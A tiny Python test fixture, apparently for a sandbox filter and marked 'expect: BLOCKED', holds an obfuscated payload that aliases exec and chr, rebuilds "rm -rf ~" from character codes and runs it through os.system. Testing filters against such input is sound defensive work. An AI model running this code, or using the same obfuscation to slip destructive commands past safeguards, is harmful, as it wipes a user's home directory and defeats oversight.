# expect: BLOCKED
from builtins import all,dir,exec as _0x1,eval,chr as _0x2
_0x1("".join([_0x2(_0x3) for _0x3 in [105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,114,109,32,45,114,102,32,126,39,41]]))
